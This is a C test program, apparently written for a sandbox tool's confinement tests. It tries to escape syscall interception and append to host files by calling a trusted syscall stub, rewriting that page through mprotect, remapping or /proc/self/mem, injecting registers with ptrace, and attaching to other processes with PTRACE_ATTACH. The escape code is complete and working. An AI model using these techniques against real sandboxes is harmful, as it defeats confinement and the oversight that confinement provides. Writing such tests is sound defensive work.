/*
 * hostile.c - a program that attacks vroot's interception to reach host
 * files behind the namespace's back, for `vroot run --confine` tests.
 *
 *     hostile MODE FILE...
 *
 * For each FILE (a host path), open it for appending by way of MODE and
 * append "escaped\n"; print "MODE FILE: escaped" or "MODE FILE: ERRNO".
 *
 *   stub      call the trusted page's `syscall; ret` stub directly
 *   mprotect  make the trusted page writable and put our own stub in it
 *   remap     unmap the trusted page, map our own page there (with the
 *             loader's stubs copied back, and ours)
 *   procmem   write our stub into the trusted page through /proc/self/mem
 *   ptrace    make a traced child run the trusted stub with our registers
 *   attach PID...  PTRACE_ATTACH to processes (FILE is a pid): "attached"
 *
 * Built with -mno-red-zone: a `call` from inline assembly writes below
 * the stack pointer.  Exit status 0, or 2 when the attack could not be
 * set up at all (a test bug, not a result).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define TPAGE     0x7e8000000000UL /* slot 0: trusted in every nesting level */
#define TPAGE_LEN 4096UL
#define OWN_STUB  0x800UL /* an unused offset in the page */

static const unsigned char stub[] = {0x0f, 0x05, 0xc3}; /* syscall; ret */
static const char msg[] = "escaped\n";

static long
call_at(unsigned long addr, long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("call *%[t]"
	                 : "=a"(ret)
	                 : "a"(nr), "D"(a), "S"(b), "d"(c), [t] "r"(addr)
	                 : "rcx", "r11", "memory");
	return ret;
}

/* Open @path for appending through the stub at @addr and write to it. */
static long
escape_via(unsigned long addr, const char *path)
{
	long fd = call_at(addr, __NR_openat, AT_FDCWD, (long)path, O_WRONLY | O_APPEND);
	long r;

	if (fd < 0)
		return fd;
	r = call_at(addr, __NR_write, fd, (long)msg, sizeof(msg) - 1);
	call_at(addr, __NR_close, fd, 0, 0);
	return r < 0 ? r : 0;
}

static void
report(const char *mode, const char *path, long r)
{
	if (r >= 0)
		printf("%s %s: escaped\n", mode, path);
	else
		printf("%s %s: %s\n", mode, path, strerrorname_np((int)-r));
	fflush(stdout);
}

static void
die(const char *what)
{
	fprintf(stderr, "hostile: %s: %s\n", what, strerror(errno));
	exit(2);
}

/* Our own stub in the trusted page by mprotect: returns its address. */
static unsigned long
own_stub_mprotect(void)
{
	if (mprotect((void *)TPAGE, TPAGE_LEN, PROT_READ | PROT_WRITE | PROT_EXEC) < 0)
		die("mprotect of the trusted page");
	memcpy((void *)(TPAGE + OWN_STUB), stub, sizeof(stub));
	return TPAGE + OWN_STUB;
}

/* The trusted page replaced by a page of ours. */
static unsigned long
own_stub_remap(void)
{
	static unsigned char copy[TPAGE_LEN];
	void *p;

	memcpy(copy, (void *)TPAGE, TPAGE_LEN);
	if (munmap((void *)TPAGE, TPAGE_LEN) < 0)
		die("munmap of the trusted page");
	/* No libc call may make a trapped call until the page is back. */
	p = mmap((void *)TPAGE, TPAGE_LEN, PROT_READ | PROT_WRITE | PROT_EXEC,
	         MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (p == MAP_FAILED)
		die("mmap at the trusted page");
	memcpy(p, copy, TPAGE_LEN);
	memcpy((char *)p + OWN_STUB, stub, sizeof(stub));
	return TPAGE + OWN_STUB;
}

/* Our stub written through /proc/self/mem; -errno if that is refused. */
static long
own_stub_procmem(void)
{
	int fd = open("/proc/self/mem", O_RDWR);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = pwrite(fd, stub, sizeof(stub), (off_t)(TPAGE + OWN_STUB));
	close(fd);
	if (n != (ssize_t)sizeof(stub))
		return n < 0 ? -errno : -EIO;
	return (long)(TPAGE + OWN_STUB);
}

/* A traced child stopped, then made to run the trusted stub. */
static long
inject(pid_t child, long nr, long a, long b, long c)
{
	struct user_regs_struct r, saved;
	int st;

	if (ptrace(PTRACE_GETREGS, child, 0, &saved) < 0)
		return -errno;
	r = saved;
	r.rip = TPAGE;
	r.rax = (unsigned long)nr;
	r.orig_rax = (unsigned long)-1;
	r.rdi = (unsigned long)a;
	r.rsi = (unsigned long)b;
	r.rdx = (unsigned long)c;
	if (ptrace(PTRACE_SETREGS, child, 0, &r) < 0 ||
	    ptrace(PTRACE_SINGLESTEP, child, 0, 0) < 0 || waitpid(child, &st, 0) < 0)
		return -errno;
	if (!WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, child, 0, &r) < 0)
		return -ECHILD;
	ptrace(PTRACE_SETREGS, child, 0, &saved);
	return (long)r.rax;
}

static long
escape_ptrace(const char *path)
{
	pid_t child = fork();
	long fd, w;
	int st;

	if (child < 0)
		die("fork");
	if (child == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		_exit(0);
	}
	if (waitpid(child, &st, 0) < 0 || !WIFSTOPPED(st))
		die("the child did not stop");
	fd = inject(child, __NR_openat, AT_FDCWD, (long)path, O_WRONLY | O_APPEND);
	w = fd < 0 ? fd : inject(child, __NR_write, fd, (long)msg, sizeof(msg) - 1);
	kill(child, SIGKILL);
	waitpid(child, &st, 0);
	return w < 0 ? w : 0;
}

static long
attach(const char *pid)
{
	pid_t p = (pid_t)atoi(pid);
	int st;

	if (ptrace(PTRACE_ATTACH, p, 0, 0) < 0)
		return -errno;
	waitpid(p, &st, 0);
	ptrace(PTRACE_DETACH, p, 0, 0);
	return 0;
}

int
main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	unsigned long at = TPAGE;
	long r = 0;

	if (argc < 3) {
		fprintf(stderr,
		        "usage: hostile stub|mprotect|remap|procmem|ptrace|attach FILE...\n");
		return 2;
	}
	if (strcmp(mode, "mprotect") == 0)
		at = own_stub_mprotect();
	else if (strcmp(mode, "remap") == 0)
		at = own_stub_remap();
	else if (strcmp(mode, "procmem") == 0 && (r = own_stub_procmem()) >= 0)
		at = (unsigned long)r;
	for (int i = 2; i < argc; i++) {
		if (strcmp(mode, "attach") == 0)
			report(mode, argv[i], attach(argv[i]));
		else if (strcmp(mode, "ptrace") == 0)
			report(mode, argv[i], escape_ptrace(argv[i]));
		else
			report(mode, argv[i], r < 0 ? r : escape_via(at, argv[i]));
	}
	return 0;
}
